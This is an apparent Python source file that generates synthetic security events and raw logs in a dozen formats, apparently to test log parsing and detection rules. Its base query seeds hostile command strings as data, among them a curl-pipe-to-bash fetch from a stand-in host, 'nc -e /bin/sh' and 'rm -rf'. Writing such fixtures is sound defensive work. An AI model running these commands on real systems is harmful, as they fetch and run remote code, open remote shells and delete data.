"""Security events and raw logs derived from the `events` table.

Each derivation is one SQL text that Spark and DuckDB both read, so the same inputs reach a query
and its check. Only the spellings in `DIALECT` differ.
"""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from logsift.operators.numbering import number_rows
from logsift.sources.tables import dealt, spread

DIALECT = {
    "spark": {
        "iso": "date_format(CAST({ts} AS TIMESTAMP), \"yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'\")",
        "bsd": "date_format(CAST({ts} AS TIMESTAMP), 'MMM dd HH:mm:ss')",
    },
    "duckdb": {
        "iso": "strftime(CAST({ts} AS TIMESTAMP), '%Y-%m-%dT%H:%M:%S.%fZ')",
        "bsd": "strftime(CAST({ts} AS TIMESTAMP), '%b %d %H:%M:%S')",
    },
}

# `id` orders as the numeric id does. Some rows lack an address, some have equal endpoints, a bad
# address or an out-of-range port, so that every check has rows on both sides. `v` varies the logs
# of one format, independently of the format's own turn.
BASE = """
SELECT event_id AS n, CAST(floor(event_id / 14.0) AS BIGINT) AS v, 'E' || lpad(CAST(event_id AS STRING), 12, '0') AS id, CAST(ts AS TIMESTAMP) AS event_ts,
  user_id, event_type AS kind, value, props,
  '10.0.' || CAST(CAST(floor(user_id / 250.0) AS BIGINT) AS STRING) || '.' || CAST(user_id % 250 + 1 AS STRING) AS src,
  CASE WHEN event_id % 17 = 0 THEN '10.0.' || CAST(CAST(floor(user_id / 250.0) AS BIGINT) AS STRING) || '.' || CAST(user_id % 250 + 1 AS STRING)
       WHEN event_id % 23 = 0 THEN '2001:db8::' || CAST(user_id % 10 AS STRING)
       WHEN event_id % 29 = 0 THEN '10.0.0.' || CAST(250 + event_id % 20 AS STRING)
       ELSE '192.168.' || CAST(event_id % 4 AS STRING) || '.' || CAST(user_id % 200 + 1 AS STRING) END AS dst,
  1024 + (event_id * 7) % 60000 AS sport,
  CASE CAST(floor(event_id / 14.0) AS BIGINT) % 7 WHEN 0 THEN 80 WHEN 1 THEN 22 WHEN 2 THEN 443 WHEN 3 THEN 0 WHEN 4 THEN 8080 WHEN 5 THEN 70000 ELSE 3389 END AS dport,
  CASE event_id % 4 WHEN 0 THEN 'HTTP' WHEN 1 THEN 'ssh' WHEN 2 THEN 'dns' ELSE NULL END AS proto,
  CASE WHEN event_type = 'error' THEN 'login_failed' ELSE event_type END AS act,
  CASE event_id % 5 WHEN 0 THEN 'Critical' WHEN 1 THEN 'high' WHEN 2 THEN 'medium' WHEN 3 THEN 'low' ELSE NULL END AS sev,
  CASE event_id % 11 WHEN 0 THEN 'rm -rf /tmp/' || event_type WHEN 1 THEN 'ls -la' WHEN 2 THEN 'CURL http://x.example/' || CAST(user_id AS STRING) || ' | bash -c "run the downloaded file now"' WHEN 3 THEN '' ELSE NULL END AS command,
  CASE event_id % 9 WHEN 0 THEN 'nc -e /bin/sh' WHEN 1 THEN 'whoami' ELSE NULL END AS process_command,
  'u' || CAST(user_id AS STRING) AS usr, 'host' || CAST(user_id % 20 AS STRING) AS host,
  {iso} AS iso, {bsd} AS bsd
FROM {events}
"""

EVENTS = """
SELECT id AS event_id, event_ts, iso AS timestamp, src AS source_ip,
  CASE WHEN n % 13 = 0 THEN NULL ELSE dst END AS destination_ip, CAST(sport AS INT) AS source_port,
  CAST(CASE WHEN n % 31 = 0 THEN NULL ELSE dport END AS INT) AS destination_port,
  proto AS protocol, act AS action, kind AS event_type, sev AS severity, usr AS user_name, host AS hostname,
  command, process_command, user_id, n, value, props
FROM base
"""

# One text per format; the variants of a format share the rows among themselves.
LOG_TEXT = {
    "json": """CASE
      WHEN v % 41 = 0 THEN '{{"src": "' || src || '", "action": 5, "time": "' || iso || '"}}'
      WHEN v % 43 = 0 THEN '{{"src": "' || src || '", "act": "' || act || '"}} trailing'
      WHEN v % 37 = 0 THEN '[{{"src": "' || src || '"}}]'
      WHEN v % 3 = 0 THEN '{{"src": "' || src || '", "dst": "' || dst || '", "dport": ' || CAST(dport AS STRING) || ', "eventName": "' || act || '", "userIdentity": {{"userName": "' || usr || '", "arn": "arn:' || usr || '"}}, "eventTime": "' || iso || '", "k": ' || CAST(v % 100 AS STRING) || '}}'
      ELSE '{{"source_ip": "' || src || '", "dst": "' || dst || '", "dport": "' || CAST(dport AS STRING) || '", "sport": ' || CAST(sport AS STRING) || ', "action": "' || act || '", "sev": "' || coalesce(sev, '') || '", "user": "' || usr || '", "time": "' || iso || '", "vendor": "", "device_vendor": "Acme", "ok": true}}' END""",
    "cef": """CASE
      WHEN v % 19 = 0 THEN 'CEF:0|Acme|' || act
      ELSE 'CEF:0|Acme|Gate|1.' || CAST(v % 3 AS STRING) || '|' || CAST(100 + v % 5 AS STRING) || '|' || kind || ' event|' || CAST(v % 11 AS STRING) || '|src=' || src || ' dst=' || dst || ' spt=' || CAST(sport AS STRING) || ' dpt=' || CAST(dport AS STRING) || ' act=' || act || ' msg="user ' || usr || ' did ' || kind || '" duser=' || usr END""",
    "leef": """CASE
      WHEN v % 19 = 0 THEN 'LEEF:bad|' || act
      WHEN v % 4 = 0 THEN 'LEEF:2.0|Acme|Gate|3.1|' || kind || '|^|src=' || src || '^dst=' || dst || '^sport=' || CAST(sport AS STRING) || '^dport=' || CAST(dport AS STRING) || '^act="' || act || '"'
      WHEN v % 4 = 1 THEN 'LEEF:2.0|Acme|Gate|3.1|' || kind || '|0x7c|src=' || src || '|dst=' || dst || '|sport=' || CAST(sport AS STRING) || '|dport=' || CAST(dport AS STRING) || '|act=' || act
      WHEN v % 4 = 2 THEN 'LEEF:1.0|Acme|Gate|3.1|' || kind || chr(9) || 'src=' || src || chr(9) || 'dst=' || dst || chr(9) || 'sport=' || CAST(sport AS STRING) || chr(9) || 'dport=' || CAST(dport AS STRING) || chr(9) || 'act=' || act
      ELSE 'LEEF:1.0|Acme|Gate|3.1|' || kind || '|src=' || src || chr(9) || 'dst=' || dst || chr(9) || 'sport=' || CAST(sport AS STRING) || chr(9) || 'dport=' || CAST(dport AS STRING) || chr(9) || 'act=' || act END""",
    "syslog": """'<' || CAST(v % 192 AS STRING) || '>' || CASE WHEN v % 6 = 0 THEN '' ELSE bsd || ' ' || host || ' ' END || 'app[' || CAST(user_id AS STRING) || ']: src=' || src || ' dst=' || dst || ' dport=' || CAST(dport AS STRING) || ' act=' || act || ' user="' || usr || '"'""",
    "csv": """CASE
      WHEN v % 4 = 0 THEN 'src=' || src || ',dst=' || dst || ', act = ' || act
      WHEN v % 4 = 1 THEN 'timestamp,src,dst,dport,msg' || chr(10) || '"' || iso || '","' || src || '",' || dst || ',' || CAST(dport AS STRING) || ',"' || usr || ', ""' || act || '"" seen"'
      WHEN v % 4 = 2 THEN 'source_ip,act' || chr(13) || chr(10) || src || ',' || act || chr(13) || chr(10) || '1.1.1.1,other' || chr(13) || chr(10)
      ELSE src || ',' || act || ',' || CAST(dport AS STRING) END""",
    "cisco_asa": """bsd || ' ' || host || ' %ASA-' || CAST(v % 8 AS STRING) || '-' || CAST(106000 + v % 50 AS STRING) || ': ' || CASE v % 4
      WHEN 0 THEN 'Deny tcp src outside:' || src || '/' || CAST(sport AS STRING) || ' dst inside:192.168.0.1/' || CAST(dport AS STRING) || ' by access-group "acl_out"'
      WHEN 1 THEN 'Teardown TCP connection ' || CAST(n AS STRING) || ' for src outside:' || src || '/' || CAST(sport AS STRING)
      WHEN 2 THEN 'Deny udp reverse path check' ELSE 'Built connection for ' || usr END""",
    "aws_cloudtrail": """'{{"Records": [{{"eventTime": "' || iso || '", "eventSource": "' || CASE WHEN v % 10 = 0 THEN 'example.com' ELSE 's3.amazonaws.com' END || '", "eventName": "' || kind || '", "awsRegion": "r' || CAST(v % 3 AS STRING) || '", "sourceIPAddress": "' || src || '", "userIdentity": {{' || CASE v % 3 WHEN 0 THEN '"principalId": "P' || usr || '", ' WHEN 1 THEN '"principalId": "", ' ELSE '' END || '"userName": "' || usr || '"}}, "userAgent": "cli", ' || CASE WHEN kind = 'error' THEN '"errorCode": "Denied", ' ELSE '' END || '"requestID": "q' || CAST(n AS STRING) || '"}}, {{"eventName": "second", "eventSource": "ec2.amazonaws.com"}}]}}'""",
    "windows_event": """CASE WHEN v % 15 = 0 THEN '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID>' || CAST(n AS STRING)
      ELSE '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Audit-' || kind || '" /><EventID>' || CAST(4600 + v % 50 AS STRING) || '</EventID><TimeCreated SystemTime="' || iso || '" /><Computer>' || host || '</Computer></System><EventData><Data Name="TargetUserName">' || usr || '</Data><Data Name="IpAddress">' || src || '</Data><Data Name="IpPort">' || CAST(sport AS STRING) || '</Data></EventData></Event>' END""",
    "xml": """CASE WHEN v % 15 = 0 THEN '<event><src>' || src || '</src><act>' || act || '</event>'
      WHEN v % 2 = 0 THEN '<event level="' || coalesce(sev, 'none') || '"><src>' || src || '</src><dst>' || dst || '</dst><act>' || act || '</act><net><dport>' || CAST(dport AS STRING) || '</dport><proto>tcp</proto></net></event>'
      ELSE '<Event><System><EventID>' || CAST(4600 + v % 50 AS STRING) || '</EventID><TimeCreated SystemTime="' || iso || '"/></System><EventData><Data Name="TargetUserName">' || usr || '</Data><Data Name="IpAddress">' || src || '</Data></EventData></Event>' END""",
    "kv": """'user=' || usr || ' src_ip=' || src || ' dst_port=' || CAST(dport AS STRING) || ' status:' || act || ' note=|tag=' || kind || '|lvl=''' || coalesce(sev, '-') || ''' src_ip=' || dst""",
    "free": """CASE WHEN v % 3 = 0 THEN 'User ' || usr || ' did ' || kind || ' on ' || host WHEN v % 3 = 1 THEN '  ' || iso || ' ' || host || ': ' || kind || ', value ' || CAST(n AS STRING) || ', from ' || src || ', ok ' || chr(10) ELSE kind || '|' || usr || '|' || host END""",
}

# Mixed logs: the formats take turns, and one turn in fourteen is blank.
MIXED = "CASE n % 14 " + " ".join(
    f"WHEN {i} THEN {text}" for i, text in enumerate(LOG_TEXT.values())
) + f" WHEN 12 THEN '{{{{\"a\": ' || CAST(n AS STRING) || '}}}} , x' ELSE CASE WHEN v % 2 = 0 THEN ' ' || chr(9) || ' ' ELSE {LOG_TEXT['kv']} END END"


def base_sql(dialect: str, events: str = "events") -> str:
    spell = {k: v.format(ts="ts") for k, v in DIALECT[dialect].items()}
    return BASE.format(events=events, **spell)


def logs_sql(kind: str) -> str:
    """(event_id, event_ts, raw_event) over `base`: every event as a log of one kind, or 'mixed'."""
    text = (MIXED if kind == "mixed" else LOG_TEXT[kind]).format()
    return f"SELECT id AS event_id, event_ts, user_id, n, {text} AS raw_event FROM base"


# (file, line_no, line): one file per user; a file's first lines may hold no start line, and some
# lines are blank. Errors begin with a date, some signups with a brace.
LINE = """CASE WHEN n % 12 = 0 THEN '  ' WHEN kind = 'error' THEN iso || ' error from ' || src
           WHEN kind = 'signup' AND n % 2 = 0 THEN '{"user": ' || CAST(user_id AS STRING)
           ELSE '  at ' || kind || ' ' || CAST(n AS STRING) END || CASE WHEN n % 5 = 0 THEN chr(13) || chr(10) ELSE chr(10) END"""


def lines_sql() -> str:
    return f"""SELECT 'f' || CAST(user_id AS STRING) AS file,
      row_number() OVER (PARTITION BY user_id ORDER BY event_ts, n) AS line_no, {LINE} AS line FROM base"""


def base(spark: SparkSession, sf_dir: str, deal: Callable[[DataFrame], DataFrame] = spread) -> DataFrame:
    events = deal(spark.read.parquet(f"{sf_dir}/events.parquet"))
    return spark.sql(base_sql("spark", "{events}"), events=events)


def security_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Normalised events with an `extensions` map, ready for the rules."""
    out = spark.sql(EVENTS.replace("FROM base", "FROM {base}"), base=base(spark, sf_dir))
    entries = F.filter(
        F.array(F.struct(F.lit("command").alias("key"), F.col("command").alias("value")),
                F.struct(F.lit("process_command_line").alias("key"), F.col("process_command").alias("value"))),
        lambda e: e["value"].isNotNull())
    return out.withColumn("extensions", F.map_from_entries(entries)).withColumnRenamed("user_name", "user")


def logs(spark: SparkSession, sf_dir: str, kind: str = "mixed") -> DataFrame:
    return spark.sql(logs_sql(kind).replace("{", "{{").replace("}", "}}").replace("FROM base", "FROM {base}"),
                     base=base(spark, sf_dir, dealt))


def lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    placed = number_rows(base(spark, sf_dir), ["user_id"], "event_ts", ["n"], "place", slab_seconds=86400)
    return placed.selectExpr("'f' || CAST(user_id AS STRING) AS file", "CAST(place + 1 AS INT) AS line_no", f"{LINE} AS line")
